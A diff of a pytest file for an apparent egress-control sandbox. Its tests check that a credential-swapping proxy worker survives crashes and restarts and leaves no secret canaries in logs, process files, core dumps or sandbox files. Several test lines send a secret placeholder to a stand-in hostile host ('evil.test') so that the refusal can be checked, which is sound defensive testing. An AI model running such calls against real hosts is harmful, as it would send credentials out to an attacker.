@@ -6,6 +6,7 @@ which another process cannot take over, so an upgrade of the programs is a resta
 ends its sandboxes. What a new worker takes over from one that died, case 79 shows."""
 
 import base64
+import dataclasses
 import json
 import os
 import pathlib
@@ -14,7 +15,7 @@ import time
 
 import pytest
 from egress_bench import ALLOWED, S1, S2, SECRETS, Box, forms_of
-from harness.instance import alive, wait_until
+from harness.instance import Instance, alive, wait_until
 
 
 def test_case_79_without_its_worker_there_is_no_network(lab):
@@ -67,10 +68,11 @@ def test_case_79_another_worker_takes_its_place(lab):
         get(http.client.HTTPSConnection("api.test", context=trust, timeout=5))
         print("again", flush=True)
         """)
-    def shown() -> bytes:
-        stream = box.sandbox.streams.get(client["stdoutStreamId"])
+    def shown(of: str = "stdoutStreamId") -> bytes:
+        stream = box.sandbox.streams.get(client[of])
+        assert of == "stderrStreamId" or not shown("stderrStreamId"), shown("stderrStreamId").decode()
         return bytes(stream.data) if stream else b""
-    wait_until(lambda: b"held" in shown())
+    wait_until(lambda: b"held" in shown(), timeout=20)
     os.kill(worker, signal.SIGKILL)
     began = time.monotonic()
     assert box.ok("https://api.test/after", "-H", f"Authorization: Bearer {p1}")
@@ -82,6 +84,9 @@ def test_case_79_another_worker_takes_its_place(lab):
     assert worker_of(lab, before) != worker
     lab.instance.audit.wait(ev="worker_restarted", sandbox=box.id)
     lab.instance.audit.wait(ev="request", sandbox=box.id, path="/after")
+    for reason in ("started", "restarted"):
+        told = lab.instance.audit.wait(ev="policy", sandbox=box.id, reason=reason)
+        assert told["secrets"].split(",") == list(SECRETS)
     assert box.curl("-f", "https://evil.test/").code != 0
     assert not box.sandbox.closed
     box.close()
@@ -109,26 +114,65 @@ def test_case_79_a_worker_leaves_no_core_and_is_not_readable(lab, box):
     assert pathlib.Path(f"/proc/{worker}/mem").stat().st_uid == 0
 
 
-def test_case_81_canary_search(lab, box):
-    """Nowhere on the host but in the memory of the worker: not in a log, an audit line, an environment,
-    a command line, or the state directory."""
-    p1 = box.placeholder("S1")
-    box.ok("https://api.test/canary", "-H", f"Authorization: Bearer {p1}")
-    box.curl("http://api.test/canary", "-H", f"x: {p1}")
-    box.curl("https://evil.test/canary", "-H", f"x: {p1}")
-    canaries = [form for value in (S1, S2) for form in forms_of(value)]
-    places = [*lab.instance.state.rglob("*")]
-    for process in (lab.instance.pid, *lab.instance.descendants()):
-        places += [pathlib.Path(f"/proc/{process}/{name}") for name in ("environ", "cmdline")]
-    checked = 0
-    for place in places:
-        try:
-            data = place.read_bytes() if place.stat().st_size < 64 << 20 else b""
-        except (OSError, ProcessLookupError):
-            continue  # a folder, or a process that just ended
-        checked += 1
-        assert not any(canary in data for canary in canaries), place
-    assert checked > 4
+def in_sandbox(init: int) -> list[pathlib.Path]:
+    """What a sandbox has written, and what was written into it, seen from the host."""
+    root = pathlib.Path(f"/proc/{init}/root")
+    found = []
+    for name in ("run", "tmp", "home", "root", "etc", "var/log", "var/tmp", "dev/shm"):
+        for folder, _, names in os.walk(root / name):
+            found += [pathlib.Path(folder) / n for n in names]
+    return [p for p in found if p.is_file() and not p.is_symlink()]
+
+
+def places_of(instance) -> list[pathlib.Path]:
+    places = [p for p in instance.state.rglob("*") if p.is_file()]
+    for process in (instance.pid, *instance.descendants()):
+        places += [pathlib.Path(f"/proc/{process}/{name}")
+                   for name in ("environ", "cmdline", "maps", "comm", "limits", "status")]
+    for init in instance.inits():
+        places += in_sandbox(init)
+    return places
+
+
+def test_case_81_canary_search(lab, authority, tmp_path):
+    """Nowhere on the host but in the memory of the worker: not in a log at the finest level, an audit
+    line, a denial, an environment, a command line, the state directory, a core file, or the sandbox's
+    files: after swaps, misuse, refusals, and a worker that crashed."""
+    (tmp_path / "state").mkdir(mode=0o711)
+    with Instance(tmp_path / "state", f"--egress-ca={authority.cert}", "--log-level=debug") as instance:
+        box = Box(dataclasses.replace(lab, instance=instance), allow_net=ALLOWED, secrets=SECRETS)
+        p1 = box.placeholder("S1")
+        box.sandbox.spawn("sleep", "600", stdout="null", stderr="null")
+
+        def use() -> None:
+            box.ok("https://api.test/canary", "-H", f"Authorization: Bearer {p1}")
+            box.curl("http://api.test/canary", "-H", f"x: {p1}")  # misuse
+            box.curl("https://api.test/echo", "-H", f"x: {p1}", "-o", "/tmp/echoed")
+            box.curl("https://evil.test/canary", "-H", f"x: {p1}")  # refused
+            box.curl("https://two.test/", "-H", f"x: {box.placeholder('S3')}")  # of another host
+            box.request(b"GET / HTTP/1.1\r\nHost: api.test\r\nx: " + p1.encode() + b"\r\nbad\r\n\r\n")
+        use()
+        worker, = instance.workers()
+        for number in (signal.SIGSEGV, signal.SIGABRT):
+            os.kill(worker, number)
+            worker = wait_until(lambda old=worker: next(iter(set(instance.workers()) - {old}), None))
+            use()
+        swapped = [r for r in lab.good.requests if r.target == "/canary"]
+        assert len(swapped) == 3 and all(S1 in (r.header("authorization") or "") for r in swapped)
+        canaries = [form for value in (S1, S2) for form in forms_of(value)]
+        checked = 0
+        for place in places_of(instance):
+            try:
+                size = place.stat().st_size
+                data = place.read_bytes() if size < 64 << 20 else b""
+            except (OSError, ProcessLookupError):
+                continue  # of a process that just ended
+            checked += 1
+            assert not any(canary in data for canary in canaries), place
+        assert checked > 50
+        assert not [p for p in (*instance.state.rglob("core*"), *pathlib.Path("/").glob("core*"))]
+        assert "sandbox" in instance.log_file.read_text()
+        box.close()
 
 
 def memory_holds(pid: int, needles: list[bytes]) -> bytes | None:
